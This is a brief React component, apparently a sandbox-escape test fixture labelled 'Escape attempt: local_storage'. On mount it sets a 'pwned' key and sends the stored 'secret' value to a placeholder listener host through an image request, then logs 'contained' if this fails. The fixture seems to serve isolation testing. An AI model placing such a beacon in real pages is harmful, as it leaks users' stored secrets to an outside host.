import { useEffect } from "react";

// Escape attempt: local_storage
export default function Hostile() {
  useEffect(() => {
    try {
      localStorage.setItem("pwned", "1"); new Image().src = "__LISTENER__/local_storage?" + localStorage.getItem("secret");
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, []);
  return <p data-testid="hostile">local_storage</p>;
}
